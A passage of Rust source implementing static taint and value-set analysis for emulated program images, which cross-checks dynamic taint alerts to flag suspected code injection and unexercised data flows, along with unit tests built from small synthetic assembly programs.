    pub regs: [AVal; NUM_REGS],
}

impl SyscallSite {
    /// The abstract service number (`eax` at the site).
    pub fn sysno(&self) -> AVal {
        self.regs[Reg::Eax.index()]
    }

    /// Abstract syscall argument `i` (`a0..a4` = `ebx ecx edx esi edi`).
    pub fn arg(&self, i: usize) -> AVal {
        const ARGS: [Reg; 5] = [Reg::Ebx, Reg::Ecx, Reg::Edx, Reg::Esi, Reg::Edi];
        self.regs[ARGS[i].index()]
    }
}

/// Everything the dataflow engine derives from one image.
#[derive(Debug, Clone)]
pub struct ImageDataflow {
    /// The CFG with resolved indirect edges spliced in.
    pub cfg: ModuleCfg,
    /// The inter-procedural source→sink flow map.
    pub flows: ImageFlowMap,
    /// Reachable `int` sites with their joined VSA register view.
    pub syscall_sites: BTreeMap<u32, SyscallSite>,
    /// Static call graph: function entry → direct and resolved-indirect
    /// in-image callees.
    pub call_graph: BTreeMap<u32, BTreeSet<u32>>,
    /// Externally reachable function entries (image entry + code exports).
    pub roots: BTreeSet<u32>,
    /// Cost/outcome counters.
    pub stats: DataflowStats,
}

/// Function entry points: the image entry, code exports, and every direct
/// or resolved-indirect call target inside the image.
fn function_entries(cfg: &ModuleCfg, image: &FdlImage) -> BTreeSet<u32> {
    let mut entries = BTreeSet::new();
    if cfg.blocks.contains_key(&image.entry) {
        entries.insert(image.entry);
    }
    for e in &image.exports {
        if cfg.blocks.contains_key(&e.va) {
            entries.insert(e.va);
        }
    }
    for &(_site, callee) in &cfg.call_edges {
        if cfg.blocks.contains_key(&callee) {
            entries.insert(callee);
        }
    }
    entries
}

/// Runs the resolution fixpoint and the taint passes over one image.
pub fn analyze_image(name: &str, image: &FdlImage) -> ImageDataflow {
    let mut cfg = ModuleCfg::recover(name, image);
    let mut stats = DataflowStats::default();
    let mut resolved: BTreeMap<u32, Vec<u32>> = BTreeMap::new();
    let mut vsas: BTreeMap<u32, FunctionVsa> = BTreeMap::new();

    // Resolution fixpoint: analyze, resolve, splice, repeat.
    loop {
        let entries = function_entries(&cfg, image);
        vsas.clear();
        for &e in &entries {
            let f = vsa::analyze_function(image, &cfg, e, &resolved);
            stats.worklist_iterations += f.iterations;
            stats.widenings += f.widenings;
            stats.functions_analyzed += 1;
            vsas.insert(e, f);
        }
        let mut newly: BTreeMap<u32, Vec<u32>> = BTreeMap::new();
        for f in vsas.values() {
            for (&site, regs) in &f.site_regs {
                if resolved.contains_key(&site) || newly.contains_key(&site) {
                    continue;
                }
                let target = match cfg.instr_at(site) {
                    Some(Instr::CallReg { target }) | Some(Instr::JmpReg { target }) => target,
                    _ => continue,
                };
                if let AVal::Si(si) = regs[target.index()] {
                    if let Some(targets) = si.enumerate() {
                        newly.insert(site, targets);
                    }
                }
            }
        }
        if newly.is_empty() {
            break;
        }
        cfg.splice_resolved(&newly);
        resolved.extend(newly);
    }

    for site in &cfg.indirect_sites {
        if !site.reachable {
            continue;
        }
        if resolved.contains_key(&site.va) {
            stats.indirects_resolved += 1;
        } else {
            stats.indirects_unresolved += 1;
        }
    }

    // The syscall-site view and call graph the capability analysis (and
    // the `syscall-number-unresolved` lint) consume, derived from the
    // final VSA fixpoint so nothing is analyzed twice.
    let mut syscall_sites: BTreeMap<u32, SyscallSite> = BTreeMap::new();
    for (&entry, f) in &vsas {
        for (&va, regs) in &f.site_regs {
            if !matches!(cfg.instr_at(va), Some(Instr::Int { .. })) {
                continue;
            }
            let site = syscall_sites.entry(va).or_insert_with(|| SyscallSite {
                functions: BTreeSet::new(),
                regs: [AVal::Bot; NUM_REGS],
            });
            site.functions.insert(entry);
            for (slot, r) in site.regs.iter_mut().zip(regs) {
                *slot = slot.join(r);
            }
        }
    }
    let call_graph: BTreeMap<u32, BTreeSet<u32>> =
        vsas.iter().map(|(&e, f)| (e, callees_of(&cfg, f, &resolved))).collect();
    let mut roots = BTreeSet::new();
    if cfg.blocks.contains_key(&image.entry) {
        roots.insert(image.entry);
    }
    for e in &image.exports {
        if cfg.blocks.contains_key(&e.va) {
            roots.insert(e.va);
        }
    }

    let flows = taint_phases(name, image, &cfg, &vsas, &call_graph, &resolved, &mut stats);
    ImageDataflow { cfg, flows, syscall_sites, call_graph, roots, stats }
}

/// Direct and resolved-indirect callees of the function `f`, derived from
/// the blocks its intra-procedural walk visited.
fn callees_of(
    cfg: &ModuleCfg,
    f: &FunctionVsa,
    resolved: &BTreeMap<u32, Vec<u32>>,
) -> BTreeSet<u32> {
    let mut out = BTreeSet::new();
    for bva in &f.blocks {
        let Some(block) = cfg.blocks.get(bva) else { continue };
        let Some(&(va, instr)) = block.instrs.last() else { continue };
        match instr {
            Instr::Call { rel } => {
                let callee = block.end.wrapping_add(rel as u32);
                if cfg.blocks.contains_key(&callee) {
                    out.insert(callee);
                }
            }
            Instr::CallReg { .. } => {
                if let Some(ts) = resolved.get(&va) {
                    out.extend(ts.iter().copied().filter(|t| cfg.blocks.contains_key(t)));
                }
            }
            _ => {}
        }
    }
    out
}

/// The source bits a function can trigger *without* its in-image callees:
/// its own syscall sources, plus `ALL_SOURCES` for any call into unknown
/// code (unresolved indirects, or resolved targets outside the image).
fn local_source_mask(cfg: &ModuleCfg, f: &FunctionVsa, resolved: &BTreeMap<u32, Vec<u32>>) -> u8 {
    let mut mask = 0u8;
    for (&va, regs) in &f.site_regs {
        match cfg.instr_at(va) {
            Some(Instr::Int { .. }) => match regs[Reg::Eax.index()].as_const() {
                Some(sysno) => {
                    if let Some(k) = source_of(sysno) {
                        mask |= k.bit();
                    }
                }
                // Unknown service number: could be any input syscall.
                None => mask |= ALL_SOURCES,
            },
            Some(Instr::CallReg { .. }) | Some(Instr::JmpReg { .. }) => match resolved.get(&va) {
                Some(ts) if ts.iter().all(|&t| cfg.blocks.contains_key(&t)) => {}
                // Unresolved, or a target outside the image (JIT buffer,
                // another module): the callee's behavior is unknown.
                _ => mask |= ALL_SOURCES,
            },
            _ => {}
        }
    }
    mask
}

/// Per-function taint facts, with the `AMBIENT` bit still symbolic.
#[derive(Debug, Default)]
struct FnTaint {
    sources: Vec<(u32, SourceKind)>,
    sinks: Vec<(u32, SinkKind, u8)>,
    reach: BTreeMap<u32, u8>,
}

/// Taint masks per register, tracked stack frame, and the coarse "some
/// memory is tainted by these sources" bucket.
#[derive(Debug, Clone, PartialEq, Eq)]
struct TaintState {
    regs: [u8; NUM_REGS],
    stack: BTreeMap<i32, u8>,
    mem: u8,
}

impl TaintState {
    fn entry() -> TaintState {
        // Caller-passed register values may carry caller taint; esp is a
        // pointer the kernel allocated, never data.
        let mut regs = [AMBIENT; NUM_REGS];
        regs[Reg::Esp.index()] = 0;
        TaintState { regs, stack: BTreeMap::new(), mem: 0 }
    }

    /// What an untracked memory location may hold.
    fn unknown(&self) -> u8 {
        self.mem | AMBIENT
    }

    fn join_from(&mut self, other: &TaintState) -> bool {
        let mut changed = false;
        for i in 0..NUM_REGS {
            let j = self.regs[i] | other.regs[i];
            if j != self.regs[i] {
                self.regs[i] = j;
                changed = true;
            }
        }
        if self.mem | other.mem != self.mem {
            self.mem |= other.mem;
            changed = true;
        }
        let keys: Vec<i32> = self.stack.keys().copied().collect();
        for k in keys {
            match other.stack.get(&k) {
                Some(&ov) => {
                    let j = self.stack[&k] | ov;
                    if j != self.stack[&k] {
                        self.stack.insert(k, j);
                        changed = true;
                    }
                }
                // Missing on one side = untracked = `unknown()`; drop it.
                None => {
                    self.stack.remove(&k);
                    changed = true;
                }
            }
        }
        changed
    }
}

fn immutable_image_bytes(image: &FdlImage, addr: u32, width: Width) -> bool {
    image
        .section_containing(addr)
        .is_some_and(|s| !s.perms.contains(Perms::W) && addr + width.bytes() as u32 <= s.end_va())
}

/// Taint of the value a load yields, given the VSA view of the address.
fn taint_load(image: &FdlImage, vstate: &State, t: &TaintState, mem: &Mem, width: Width) -> u8 {
    match vstate.eval_addr(mem) {
        AVal::Sp(off) if width == Width::B4 && off % 4 == 0 => {
            t.stack.get(&off).copied().unwrap_or_else(|| t.unknown())
        }
        AVal::Sp(_) => t.unknown(),
        AVal::Si(si) => match si.enumerate() {
            Some(addrs) if addrs.iter().all(|&a| immutable_image_bytes(image, a, width)) => 0,
            _ => t.unknown(),
        },
        _ => t.unknown(),
    }
}

/// Applies a store of a value with taint `v` through `mem`.
fn taint_store(vstate: &State, t: &mut TaintState, mem: &Mem, width: Width, v: u8) {
    match vstate.eval_addr(mem) {
        AVal::Sp(off) if width == Width::B4 && off % 4 == 0 => {
            t.stack.insert(off, v);
        }
        AVal::Sp(off) => {
            let lo = off - 3;
            let hi = off + width.bytes() as i32 - 1;
            let doomed: Vec<i32> = t.stack.range(lo..=hi).map(|(k, _)| *k).collect();
            for k in doomed {
                t.stack.remove(&k);
            }
            t.mem |= v;
        }
        // Constant addresses: global memory, disjoint from the frame.
        AVal::Si(_) => t.mem |= v,
        _ => {
            t.mem |= v;
            t.stack.clear();
        }
    }
}

/// The lock-step VSA + taint pass over one function.
fn taint_function(
    image: &FdlImage,
    cfg: &ModuleCfg,
    entry: u32,
    resolved: &BTreeMap<u32, Vec<u32>>,
    introduces: &BTreeMap<u32, u8>,
    stats: &mut DataflowStats,
) -> FnTaint {
    let mut out = FnTaint::default();
    if !cfg.blocks.contains_key(&entry) {
        return out;
    }
    stats.functions_analyzed += 1;

    const WIDEN_AFTER_JOINS: u32 = 3;
    let mut in_states: BTreeMap<u32, (State, TaintState)> = BTreeMap::new();
    let mut join_counts: BTreeMap<u32, u32> = BTreeMap::new();
    in_states.insert(entry, (State::entry(), TaintState::entry()));
    let mut work: VecDeque<u32> = VecDeque::from([entry]);
    let mut queued: BTreeSet<u32> = BTreeSet::from([entry]);

    // The contribution an in-image callee makes to the memory bucket.
    let callee_mask = |va: u32, stats: &mut DataflowStats| -> u8 {
        match introduces.get(&va) {
            Some(&m) => {
                stats.summary_cache_hits += 1;
                m
            }
            None => ALL_SOURCES,
        }
    };

    while let Some(bva) = work.pop_front() {
        queued.remove(&bva);
        stats.worklist_iterations += 1;
        let Some(block) = cfg.blocks.get(&bva) else { continue };
        let Some((mut vstate, mut t)) = in_states.get(&bva).cloned() else { continue };

        for &(va, instr) in &block.instrs {
            // The taint an executing instruction is exposed to: every
            // register it reads (esp is a pointer, not data) plus any
            // value it loads.
            let mut used = 0u8;
            for r in instr.regs_read() {
                if r != Reg::Esp {
                    used |= t.regs[r.index()];
                }
            }

            match instr {
                Instr::MovRR { dst, src } => t.regs[dst.index()] = t.regs[src.index()],
                Instr::MovRI { dst, .. } => t.regs[dst.index()] = 0,
                Instr::Load { dst, mem, width } => {
                    let pt: u8 =
                        mem.regs_used().map(|r| t.regs[r.index()]).fold(0, |a, b| a | b);
                    let lv = taint_load(image, &vstate, &t, &mem, width);
                    used |= lv;
                    t.regs[dst.index()] = lv | pt;
                }
                Instr::Store { mem, src, width } => {
                    let v = t.regs[src.index()];
                    taint_store(&vstate, &mut t, &mem, width, v);
                }
                Instr::Lea { dst, mem } => {
                    t.regs[dst.index()] =
                        mem.regs_used().map(|r| t.regs[r.index()]).fold(0, |a, b| a | b);
                }
                Instr::Alu { op, dst, src } => {
                    let rhs = match src {
                        Operand::Reg(r) => t.regs[r.index()],
                        Operand::Imm(_) => 0,
                    };
                    t.regs[dst.index()] = match (op, src) {
                        (AluOp::Xor | AluOp::Sub, Operand::Reg(r)) if r == dst => 0,
                        _ => t.regs[dst.index()] | rhs,
                    };
                }
                Instr::Push { src } => {
                    let v = t.regs[src.index()];
                    // The slot is at esp-4 in the *pre-push* frame.
                    if let AVal::Sp(o) = vstate.reg(Reg::Esp) {
                        t.stack.insert(o - 4, v);
                    } else {
                        t.mem |= v;
                    }
                }
                Instr::PushImm { .. } => {
                    if let AVal::Sp(o) = vstate.reg(Reg::Esp) {
                        t.stack.insert(o - 4, 0);
                    }
                }
                Instr::Pop { dst } => {
                    let v = match vstate.reg(Reg::Esp) {
                        AVal::Sp(o) => t.stack.get(&o).copied().unwrap_or_else(|| t.unknown()),
                        _ => t.unknown(),
                    };
                    used |= v;
                    t.regs[dst.index()] = v;
                }
                Instr::Call { rel } => {
                    let callee = block.end.wrapping_add(rel as u32);
                    let c = if cfg.blocks.contains_key(&callee) {
                        callee_mask(callee, stats)
                    } else {
                        ALL_SOURCES
                    };
                    t.mem |= c;
                    let u = t.unknown();
                    t.regs = [u; NUM_REGS];
                    t.regs[Reg::Esp.index()] = 0;
                    t.stack.clear();
                }
                Instr::CallReg { target } => {
                    let tt = t.regs[target.index()];
                    if tt != 0 {
                        out.sinks.push((va, SinkKind::IndirectCall, tt));
                    }
                    let c = match resolved.get(&va) {
                        Some(ts) if ts.iter().all(|x| cfg.blocks.contains_key(x)) => ts
                            .iter()
                            .map(|x| callee_mask(*x, stats))
                            .fold(0, |a, b| a | b),
                        _ => ALL_SOURCES,
                    };
                    t.mem |= c;
                    let u = t.unknown();
                    t.regs = [u; NUM_REGS];
                    t.regs[Reg::Esp.index()] = 0;
                    t.stack.clear();
                }
                Instr::JmpReg { target } => {
                    let tt = t.regs[target.index()];
                    if tt != 0 {
                        out.sinks.push((va, SinkKind::IndirectCall, tt));
                    }
                }
                Instr::Int { .. } => {
                    match vstate.reg(Reg::Eax).as_const() {
                        Some(sysno) => {
                            if let Some(k) = source_of(sysno) {
                                out.sources.push((va, k));
                                t.mem |= k.bit();
                            }
                            if let Some((kind, buf)) = sink_of(sysno) {
                                // The sink reads memory at the buffer
                                // pointer; its content is at worst the
                                // bucket, plus pointer taint.
                                let mask = t.unknown() | t.regs[buf.index()];
                                out.sinks.push((va, kind, mask));
                            }
                        }
                        // Unknown service number: could be any input.
                        None => t.mem |= ALL_SOURCES,
                    }
                    // Status / scratch come back from the kernel untainted;
                    // out-parameters may have landed anywhere in the frame.
                    t.regs[Reg::Eax.index()] = 0;
                    t.regs[Reg::Edx.index()] = 0;
                    t.stack.clear();
                }
                Instr::Cmp { .. }
                | Instr::Test { .. }
                | Instr::Jmp { .. }
                | Instr::Jcc { .. }
                | Instr::Ret
                | Instr::Hlt
                | Instr::Nop => {}
            }

            if used != 0 {
                *out.reach.entry(va).or_insert(0) |= used;
            }
            vsa::step(image, &mut vstate, &instr);
        }

        for succ in vsa::intra_succs(cfg, image, bva, resolved) {
            if !cfg.blocks.contains_key(&succ) {
                continue;
            }
            let joins = join_counts.entry(succ).or_insert(0);
            *joins += 1;
            let widen = *joins > WIDEN_AFTER_JOINS;
            let changed = match in_states.get_mut(&succ) {
                Some((v, tt)) => {
                    let vc = v.join_from(&vstate, widen, &mut stats.widenings);
                    let tc = tt.join_from(&t);
                    vc || tc
                }
                None => {
                    in_states.insert(succ, (vstate.clone(), t.clone()));
                    true
                }
            };
            if changed && queued.insert(succ) {
                work.push_back(succ);
            }
        }
    }
    out
}

/// Substitutes a function's resolved ambient mask for the symbolic
/// `AMBIENT` bit.
fn subst(mask: u8, ambient: u8) -> u8 {
    let concrete = mask & ALL_SOURCES;
    if mask & AMBIENT != 0 {
        concrete | ambient
    } else {
        concrete
    }
}

/// Phases A–C of the taint analysis: per-function source masks, lock-step
/// taint runs, ambient composition over the call graph.
fn taint_phases(
    name: &str,
    image: &FdlImage,
    cfg: &ModuleCfg,
    vsas: &BTreeMap<u32, FunctionVsa>,
    callee_sets: &BTreeMap<u32, BTreeSet<u32>>,
    resolved: &BTreeMap<u32, Vec<u32>>,
    stats: &mut DataflowStats,
) -> ImageFlowMap {
    // Phase A: which source bits each function (with its callees) can
    // trigger — a fixpoint over the static call graph.
    let mut introduces: BTreeMap<u32, u8> = vsas
        .iter()
        .map(|(&e, f)| (e, local_source_mask(cfg, f, resolved)))
        .collect();
    loop {
        let mut changed = false;
        for (&e, callees) in callee_sets {
            let mut m = introduces[&e];
            for c in callees {
                m |= introduces.get(c).copied().unwrap_or(ALL_SOURCES);
            }
            if m != introduces[&e] {
                introduces.insert(e, m);
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }

    // Phase B: per-function taint facts (AMBIENT still symbolic).
    let taints: BTreeMap<u32, FnTaint> = vsas
        .keys()
        .map(|&e| (e, taint_function(image, cfg, e, resolved, &introduces, stats)))
        .collect();

    // Phase C: resolve each function's ambient mask. The process entry
    // starts with clean memory; exports are externally callable after
    // arbitrary prior image activity; everything else inherits from its
    // callers (order-insensitively over-approximated by the caller's full
    // source mask).
    let everything: u8 = introduces.values().fold(0, |a, &b| a | b);
    let mut ambient: BTreeMap<u32, u8> = BTreeMap::new();
    for &e in vsas.keys() {
        ambient.insert(e, 0);
    }
    for ex in &image.exports {
        if ambient.contains_key(&ex.va) {
            ambient.insert(ex.va, everything);
        }
    }
    loop {
        let mut changed = false;
        for (&e, callees) in callee_sets {
            let flow = ambient[&e] | introduces[&e];
            for c in callees {
                if let Some(a) = ambient.get_mut(c) {
                    if *a | flow != *a {
                        *a |= flow;
                        changed = true;
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }

    // Assemble the image-level map.
    let mut sources: BTreeSet<(u32, SourceKind)> = BTreeSet::new();
    let mut flows: BTreeSet<StaticFlow> = BTreeSet::new();
    let mut taint_reachable: BTreeSet<u32> = BTreeSet::new();
    for (&e, ft) in &taints {
        let amb = ambient[&e];
        sources.extend(ft.sources.iter().copied());
        for &(va, kind, mask) in &ft.sinks {
            for source in kinds_of(subst(mask, amb)) {
                flows.insert(StaticFlow { source, sink: kind, sink_va: va });
            }
        }
        for (&va, &mask) in &ft.reach {
            if subst(mask, amb) != 0 {
                taint_reachable.insert(va);
            }
        }
    }
    ImageFlowMap {
        module: name.to_string(),
        sources: sources.into_iter().collect(),
        flows: flows.into_iter().collect(),
        taint_reachable,
    }
}

/// One dynamic taint alert, in the vocabulary the cross-check needs (the
/// caller maps `faros-core` detections down to this).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DynamicAlert {
    /// Process image name the alert fired in.
    pub process: String,
    /// VA of the flagged instruction.
    pub va: u32,
}

/// Cross-check verdicts for one process.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProcessTaintCheck {
    /// Process image name.
    pub process: String,
    /// Alert VAs the static model explains (tainted data can reach them).
    pub explainable: Vec<u32>,
    /// Alert VAs the static model *cannot* produce — fired in code outside
    /// every loaded module, or at instructions no modeled flow reaches.
    /// Statically impossible-per-model alerts are an injection signal.
    pub impossible: Vec<u32>,
}

/// A statically feasible flow no replay ever exercised.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ResidualFlow {
    /// Module the flow lives in.
    pub module: String,
    /// The flow.
    pub flow: StaticFlow,
}

/// The static-vs-dynamic taint cross-check result.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TaintCrossCheck {
    /// Per-process verdicts, ordered by process name.
    pub processes: Vec<ProcessTaintCheck>,
    /// Statically feasible flows never exercised dynamically — residual
    /// attack surface.
    pub residual: Vec<ResidualFlow>,
}

impl TaintCrossCheck {
    /// Returns `true` if the check carries no verdicts and no residual
    /// flows (e.g. the replay ran without the cross-check).
    pub fn is_empty(&self) -> bool {
        self.processes.is_empty() && self.residual.is_empty()
    }

    /// Returns `true` if any alert was statically impossible-per-model.
    pub fn injection_suspected(&self) -> bool {
        self.processes.iter().any(|p| !p.impossible.is_empty())
    }

    /// Total statically impossible alerts.
    pub fn impossible_total(&self) -> usize {
        self.processes.iter().map(|p| p.impossible.len()).sum()
    }

    /// Total statically explainable alerts.
    pub fn explainable_total(&self) -> usize {
        self.processes.iter().map(|p| p.explainable.len()).sum()
    }
}

impl ToJson for ProcessTaintCheck {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("process", self.process.to_json_value()),
            ("explainable", self.explainable.to_json_value()),
            ("impossible", self.impossible.to_json_value()),
        ])
    }
}

impl FromJson for ProcessTaintCheck {
    fn from_json_value(v: &JsonValue) -> Result<ProcessTaintCheck, JsonError> {
        Ok(ProcessTaintCheck {
            process: json::field(v, "process")?,
            explainable: json::field(v, "explainable")?,
            impossible: json::field(v, "impossible")?,
        })
    }
}

impl ToJson for ResidualFlow {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("flow", self.flow.to_json_value()),
        ])
    }
}

impl FromJson for ResidualFlow {
    fn from_json_value(v: &JsonValue) -> Result<ResidualFlow, JsonError> {
        Ok(ResidualFlow { module: json::field(v, "module")?, flow: json::field(v, "flow")? })
    }
}

impl ToJson for TaintCrossCheck {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("processes", self.processes.to_json_value()),
            ("residual", self.residual.to_json_value()),
        ])
    }
}

impl FromJson for TaintCrossCheck {
    fn from_json_value(v: &JsonValue) -> Result<TaintCrossCheck, JsonError> {
        Ok(TaintCrossCheck {
            processes: json::field(v, "processes")?,
            residual: json::field(v, "residual")?,
        })
    }
}

pub(crate) fn basename(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// Classifies dynamic taint alerts against the static flow model of every
/// loaded module, and reports statically feasible flows no replay
/// exercised. `images` is keyed by basename, as for [`crate::coverage::diff`].
pub fn taint_cross_check(
    alerts: &[DynamicAlert],
    observed: &[ProcessBlocks],
    images: &BTreeMap<String, FdlImage>,
) -> TaintCrossCheck {
    taint_cross_check_with_stats(alerts, observed, images).0
}

/// [`taint_cross_check`], also returning the merged [`DataflowStats`] of
/// every per-image analysis (for `analyze.*` metrics emission).
pub fn taint_cross_check_with_stats(
    alerts: &[DynamicAlert],
    observed: &[ProcessBlocks],
    images: &BTreeMap<String, FdlImage>,
) -> (TaintCrossCheck, DataflowStats) {
    let analyses: BTreeMap<&str, ImageDataflow> = images
        .iter()
        .map(|(name, image)| (name.as_str(), analyze_image(name, image)))
        .collect();
    let mut stats = DataflowStats::default();
    for a in analyses.values() {
        stats.merge(&a.stats);
    }

    let mut rows: BTreeMap<&str, ProcessTaintCheck> = BTreeMap::new();
    for alert in alerts {
        let row = rows.entry(alert.process.as_str()).or_insert_with(|| ProcessTaintCheck {
            process: alert.process.clone(),
            ..ProcessTaintCheck::default()
        });
        // Kernel-space alerts are outside the per-image model's scope.
        if alert.va >= KERNEL_BASE {
            row.explainable.push(alert.va);
            continue;
        }
        let proc = observed.iter().find(|p| p.name == alert.process);
        let module = proc.and_then(|p| {
            p.modules.iter().find_map(|m| {
                let key = basename(&m.name);
                let image = images.get(key)?;
                image.section_containing(alert.va).map(|_| key)
            })
        });
        match module {
            // In a module, at an instruction the modeled flows reach.
            Some(key) if analyses[key].flows.taint_reachable.contains(&alert.va) => {
                row.explainable.push(alert.va)
            }
            // In a module but no modeled flow reaches it, or in no loaded
            // module at all (injected code): impossible per model.
            _ => row.impossible.push(alert.va),
        }
    }

    // Residual surface: a flow is exercised if any process that loaded the
    // module executed the block containing its sink.
    let mut residual = Vec::new();
    for (key, analysis) in &analyses {
        let loaders: Vec<&ProcessBlocks> = observed
            .iter()
            .filter(|p| p.modules.iter().any(|m| basename(&m.name) == *key))
            .collect();
        if loaders.is_empty() {
            continue;
        }
        for flow in &analysis.flows.flows {
            let block_start = analysis
                .cfg
                .blocks
                .range(..=flow.sink_va)
                .next_back()
                .filter(|(_, b)| flow.sink_va < b.end)
                .map(|(&s, _)| s);
            let exercised = block_start.is_some_and(|bs| {
                loaders.iter().any(|p| p.block_starts.contains(&bs))
            });
            if !exercised {
                residual.push(ResidualFlow { module: key.to_string(), flow: *flow });
            }
        }
    }

    (TaintCrossCheck { processes: rows.into_values().collect(), residual }, stats)
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_kernel::module::{Export, Section};

    const BASE: u32 = 0x40_0000;

    fn image_of(asm: Asm) -> FdlImage {
        FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section {
                va: BASE,
                data: asm.assemble().expect("assembles"),
                perms: Perms::RX,
            }],
            exports: vec![],
        }
    }

    fn sys(asm: &mut Asm, sysno: u32) {
        asm.mov_ri(Reg::Eax, sysno);
        asm.int_syscall();
    }

    #[test]
    fn constant_indirect_call_is_resolved_and_spliced() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Ebp, 0x0100_2000); // external buffer (a JIT region)
        asm.call_reg(Reg::Ebp);
        asm.hlt();
        let image = image_of(asm);
        let r = analyze_image("t", &image);
        assert_eq!(r.stats.indirects_resolved, 1);
        assert_eq!(r.stats.indirects_unresolved, 0);
        let site = r.cfg.indirect_sites[0].va;
        assert_eq!(r.cfg.resolved_targets[&site], vec![0x0100_2000]);
    }

    #[test]
    fn indirect_call_into_the_image_reaches_the_callee() {
        let mut asm = Asm::new(BASE);
        asm.mov_label(Reg::Ebp, "helper");
        asm.call_reg(Reg::Ebp);
        asm.hlt();
        asm.label("helper");
        sys(&mut asm, Sysno::NtSocketRecv as u32); // source inside the callee
        asm.ret();
        let image = image_of(asm);
        let r = analyze_image("t", &image);
        assert_eq!(r.stats.indirects_resolved, 1);
        // The callee's source is found even though it is only reachable
        // through the resolved indirect call.
        assert_eq!(r.flows.sources.len(), 1);
        assert_eq!(r.flows.sources[0].1, SourceKind::Net);
    }

    #[test]
    fn recv_then_send_yields_a_net_to_net_flow() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Ecx, 0x50_0000); // buffer
        sys(&mut asm, Sysno::NtSocketRecv as u32);
        asm.mov_ri(Reg::Ecx, 0x50_0000);
        sys(&mut asm, Sysno::NtSocketSend as u32);
        asm.hlt();
        let image = image_of(asm);
        let r = analyze_image("t", &image);
        assert!(
            r.flows.flows.iter().any(|f| f.source == SourceKind::Net && f.sink == SinkKind::Net),
            "missing net->net flow in {:?}",
            r.flows.flows
        );
    }

    #[test]
    fn send_before_any_source_has_no_flow_from_entry() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Ecx, 0x50_0000);
        sys(&mut asm, Sysno::NtSocketSend as u32);
        sys(&mut asm, Sysno::NtSocketRecv as u32);
        asm.hlt();
        let image = image_of(asm);
        let r = analyze_image("t", &image);
        // The send happens before the recv and the entry starts with clean
        // memory: no source can reach that sink.
        assert!(
            r.flows.flows.iter().all(|f| f.sink != SinkKind::Net),
            "unexpected flow into the early send: {:?}",
            r.flows.flows
        );
    }

    #[test]
    fn sources_compose_across_direct_calls() {
        let mut asm = Asm::new(BASE);
        asm.call("getdata");
        asm.mov_ri(Reg::Ecx, 0x50_0000);
        sys(&mut asm, Sysno::NtWriteFile as u32);
        asm.hlt();
        asm.label("getdata");
        sys(&mut asm, Sysno::NtSocketRecv as u32);
        asm.ret();
        let image = image_of(asm);
        let r = analyze_image("t", &image);
        assert!(
            r.flows
                .flows
                .iter()
                .any(|f| f.source == SourceKind::Net && f.sink == SinkKind::File),
            "callee source must reach caller sink: {:?}",
            r.flows.flows
        );
        assert!(r.stats.summary_cache_hits >= 1, "callee summary lookup must be cached");
    }

    #[test]
    fn exported_functions_assume_ambient_taint() {
        let mut asm = Asm::new(BASE);
        sys(&mut asm, Sysno::NtSocketRecv as u32);
        asm.hlt();
        asm.label("handler"); // export: callable after the recv ran
        asm.mov_ri(Reg::Ecx, 0x50_0000);
        sys(&mut asm, Sysno::NtSocketSend as u32);
        asm.ret();
        let (code, labels) = asm.assemble_with_labels().unwrap();
        let handler = labels["handler"];
        let image = FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section { va: BASE, data: code, perms: Perms::RX }],
            exports: vec![Export { name: "handler".into(), va: handler }],
        };
        let r = analyze_image("t", &image);
        assert!(
            r.flows.flows.iter().any(|f| f.sink == SinkKind::Net),
            "export sink must see ambient sources: {:?}",
            r.flows.flows
        );
    }

    #[test]
    fn alerts_outside_every_module_are_statically_impossible() {
        let mut asm = Asm::new(BASE);
        sys(&mut asm, Sysno::NtSocketRecv as u32);
        asm.hlt();
        let image = image_of(asm);
        let images = BTreeMap::from([("prog.exe".to_string(), image)]);
        let observed = vec![ProcessBlocks {
            pid: faros_kernel::Pid(1),
            name: "prog.exe".into(),
            modules: vec![faros_kernel::module::ModuleInfo {
                name: "prog.exe".into(),
                base: BASE,
                entry: BASE,
                export_table_va: 0,
                exports: vec![],
            }],
            block_starts: BTreeSet::from([BASE]),
            indirect_targets: BTreeMap::new(),
        }];
        let alerts = vec![
            DynamicAlert { process: "prog.exe".into(), va: 0x0100_2000 }, // payload memory
        ];
        let check = taint_cross_check(&alerts, &observed, &images);
        assert!(check.injection_suspected());
        assert_eq!(check.impossible_total(), 1);
        assert_eq!(check.explainable_total(), 0);
    }

    #[test]
    fn unexercised_feasible_flows_are_residual_surface() {
        let mut asm = Asm::new(BASE);
        sys(&mut asm, Sysno::NtSocketRecv as u32);
        asm.mov_ri(Reg::Ecx, 0x50_0000);
        sys(&mut asm, Sysno::NtSocketSend as u32);
        asm.hlt();
        let image = image_of(asm);
        let images = BTreeMap::from([("prog.exe".to_string(), image)]);
        // The process loaded the module but never executed anything.
        let observed = vec![ProcessBlocks {
            pid: faros_kernel::Pid(1),
            name: "prog.exe".into(),
            modules: vec![faros_kernel::module::ModuleInfo {
                name: "prog.exe".into(),
                base: BASE,
                entry: BASE,
                export_table_va: 0,
                exports: vec![],
            }],
            block_starts: BTreeSet::new(),
            indirect_targets: BTreeMap::new(),
        }];
        let check = taint_cross_check(&[], &observed, &images);
        assert!(!check.injection_suspected());
        assert!(
            check.residual.iter().any(|r| r.flow.sink == SinkKind::Net),
            "net->net flow never exercised must be residual: {:?}",
            check.residual
        );
    }

    #[test]
    fn cross_check_json_round_trips() {
        let check = TaintCrossCheck {
            processes: vec![ProcessTaintCheck {
                process: "notepad.exe".into(),
                explainable: vec![0x40_1000],
                impossible: vec![0x0100_2000],
            }],
            residual: vec![ResidualFlow {
                module: "prog.exe".into(),
                flow: StaticFlow {
                    source: SourceKind::Net,
                    sink: SinkKind::File,
